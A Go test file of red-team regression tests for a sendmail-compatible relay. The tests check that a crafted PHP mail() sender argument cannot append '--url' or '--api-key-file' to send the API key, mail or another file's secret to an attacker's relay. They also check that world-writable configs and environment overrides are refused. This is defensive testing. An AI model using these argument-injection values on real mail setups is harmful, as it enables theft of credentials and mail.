package main

// Red-team tests for issue 15 ("Safe as /usr/sbin/sendmail"). Each test
// below that is not marked "held" failed on the code it was written
// against; each asserts what a careful administrator would expect.

import (
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mxrelay/mxrelay/relaytest"
)

// TestRedTeamAppendedOptionOverridesAdministratorsEnvironment: the
// administrator names the relay and the key in the environment, as the
// README's first example does (and as PHP-FPM's env[MXRELAY_URL] or a
// systemd Environment= does), and PHP's sendmail_path is "... -t -i".
// mail()'s fifth argument "-f$from" with a crafted $from appends
// "--url=wss://attacker": the flag silently beats MXRELAY_URL, and the API
// key and the mail go to the attacker. Likewise an appended
// --api-key-file beats MXRELAY_API_KEY, and the content of any one-line
// file the process can read is sent to the relay as a key. A flag that
// contradicts what the administrator's environment names must be refused
// (as a second --url is), not win.
func TestRedTeamAppendedOptionOverridesAdministratorsEnvironment(t *testing.T) {
	const in = "To: a@example.com\nSubject: contact form\n\nhello\n"
	t.Run("--url", func(t *testing.T) {
		good := newRelay(t, nil)
		evil := newRelay(t, nil)
		env := relayEnv(good) // MXRELAY_URL and MXRELAY_API_KEY: the administrator's
		code, stderr := sendmail(t, env, strings.NewReader(in), "-t", "-i", "-fvisitor@example.com", "--url="+evil.URL)
		t.Logf("exit %d, stderr %q; attacker's relay: %d connection(s), %d message(s)", code, stderr, evil.Stats().Connections, len(evil.Mailbox()))
		assert.Zero(t, evil.Stats().Connections, "the API key reached the attacker's relay")
		assert.Zero(t, len(evil.Mailbox()), "the mail reached the attacker's relay")
		assert.Equal(t, exUsage, code)
	})
	t.Run("--api-key-file", func(t *testing.T) {
		const secret = "db-password-of-another-app-0123456789"
		dir := t.TempDir()
		other := writeFile(t, dir, "secret", secret+"\n") // mode 0600, one line, readable by the PHP user
		// The administrator's relay, told to accept that string too, shows
		// it was sent as the key.
		good := newRelay(t, &relaytest.Options{APIKeys: []string{secret}})
		env := relayEnv(good)
		env["MXRELAY_API_KEY"] = relaytest.DefaultAPIKey // the administrator's key (this relay would refuse it)
		code, stderr := sendmail(t, env, strings.NewReader(in), "-t", "-i", "-fvisitor@example.com", "--api-key-file="+other)
		t.Logf("exit %d, stderr %q, delivered with the file's content as the key: %d", code, stderr, len(good.Mailbox()))
		assert.Zero(t, len(good.Mailbox()), "the content of a file the administrator never named was sent as the API key")
		assert.Equal(t, exUsage, code)
	})
}

// TestRedTeamObsoleteFromFieldFirstIsDropped: a message whose first line
// is "From : alice@example.com" (white space before the colon: the
// obsolete syntax the command says it reads, as it does for "Bcc :") is
// taken for an mbox "From " line and dropped. The author's From header is
// lost, a From of the local user is made up, and the envelope sender
// becomes tester@host.test instead of alice@example.com. An mbox From_
// line has no colon after "From"; a field does.
func TestRedTeamObsoleteFromFieldFirstIsDropped(t *testing.T) {
	in := "From : Alice <alice@example.com>\nTo: to@example.com\nSubject: s\n\nbody\n"
	m := sendOneT(t, in)
	t.Logf("MAIL FROM %q, data %q", m.From, m.Data)
	assert.Equal(t, "alice@example.com", m.From, "the envelope sender is the From field's address")
	assert.True(t, strings.HasPrefix(string(m.Data), "From : Alice <alice@example.com>\r\n"), "the author's From field is kept")
	assert.NotContains(t, string(m.Data), "tester@host.test", "no From made up")
}

// TestRedTeamConfigWritableByOthers: the administrator's configuration
// file decides where the mail and the API key go, yet one that every user
// may write (mode 0666, or 0664 with a group) is read and obeyed: any
// local user rewrites url = and receives the key and every mail. The key
// file is refused when others may read it; the configuration file that
// names where the key goes must be refused when others may write it (as
// sudo, ssh and cron refuse theirs), exit 78.
func TestRedTeamConfigWritableByOthers(t *testing.T) {
	for _, mode := range []os.FileMode{0o666, 0o646, 0o664} {
		t.Run(mode.String(), func(t *testing.T) {
			s := newRelay(t, nil)
			dir := t.TempDir()
			keyFile := writeFile(t, dir, "key", s.APIKey+"\n")
			conf := writeFile(t, dir, "sendmail.conf", "url = "+s.URL+"\napi-key-file = "+keyFile+"\n")
			require.NoError(t, os.Chmod(conf, mode))
			env := map[string]string{"LOGNAME": "tester", "MXRELAY_DOMAIN": "host.test", envConfig: conf}
			code, stderr := sendmail(t, env, strings.NewReader("Subject: s\n\nx\n"), "a@example.com")
			t.Logf("mode %v: exit %d, stderr %q, connections %d", mode, code, stderr, s.Stats().Connections)
			assert.Equal(t, exConfig, code, "a configuration others may write is refused")
			assert.Zero(t, s.Stats().Connections)
		})
	}
}

// TestRedTeamEnvironmentReplacesAdministratorsConfig: the README says of
// /etc/mxrelay/sendmail.conf "What it sets, an option or the environment
// cannot change", and main.go's comment that an environment variable that
// would change it is refused. But MXRELAY_SENDMAIL_CONFIG, read from the
// same environment, replaces the file: pointed at /dev/null (or any file
// without settings), the administrator's url and api-key-file are gone and
// MXRELAY_URL plus MXRELAY_API_KEY_FILE (the administrator's own key file)
// send the key elsewhere. (The README calls the variable "for tests";
// the built command honours it all the same. Severity is low where
// whoever sets the environment can also read the key file.)
func TestRedTeamEnvironmentReplacesAdministratorsConfig(t *testing.T) {
	good := newRelay(t, nil)
	evil := newRelay(t, nil)
	dir := t.TempDir()
	keyFile := writeFile(t, dir, "api-key", relaytest.DefaultAPIKey+"\n")
	admin := writeFile(t, dir, "sendmail.conf", "url = "+good.URL+"\napi-key-file = "+keyFile+"\n")
	old := configPath
	configPath = admin // as if built with -X main.configPath, or the default /etc/mxrelay/sendmail.conf
	t.Cleanup(func() { configPath = old })

	env := map[string]string{"LOGNAME": "www-data", "MXRELAY_DOMAIN": "host.test"}
	code, stderr := sendmail(t, env, strings.NewReader("Subject: s\n\nx\n"), "a@example.com")
	require.Equal(t, exOK, code, stderr)
	require.Len(t, good.Mailbox(), 1, "the administrator's file is read")

	env[envConfig] = os.DevNull
	env["MXRELAY_URL"] = evil.URL
	env["MXRELAY_API_KEY_FILE"] = keyFile
	code, stderr = sendmail(t, env, strings.NewReader("Subject: s\n\nx\n"), "a@example.com")
	t.Logf("exit %d, stderr %q, other relay: %d connection(s)", code, stderr, evil.Stats().Connections)
	assert.Zero(t, evil.Stats().Connections, "the administrator's key went to a relay the environment named")
	assert.Equal(t, exConfig, code)
}

// The administrator's MXRELAY_DOMAIN is not changed by an appended
// --domain (found after the red team's fixes: --domain still won over
// the environment): usage error, nothing sent.
func TestAppendedDomainCannotContradictTheEnvironment(t *testing.T) {
	s := newRelay(t, nil)
	env := withEnv(relayEnv(s), map[string]string{"MXRELAY_DOMAIN": "example.com"})
	code, stderr := sendmail(t, env, strings.NewReader("Subject: s\n\nbody\n"), "--domain=evil.example", "root")
	assert.Equal(t, exUsage, code, stderr)
	assert.Contains(t, stderr, "MXRELAY_DOMAIN")
	assert.Empty(t, s.Mailbox())
	code, stderr = sendmail(t, env, strings.NewReader("Subject: s\n\nbody\n"), "--domain=EXAMPLE.com", "root")
	assert.Equal(t, exOK, code, "the same domain, another case: %s", stderr)
}
